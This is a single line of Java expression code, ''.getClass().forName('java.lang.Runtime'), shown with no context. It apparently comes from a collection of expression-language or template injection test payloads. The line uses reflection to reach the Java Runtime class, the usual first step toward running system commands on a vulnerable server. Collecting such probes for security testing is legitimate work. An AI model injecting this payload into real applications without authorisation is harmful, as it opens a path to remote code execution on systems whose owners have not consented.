''.getClass().forName('java.lang.Runtime')
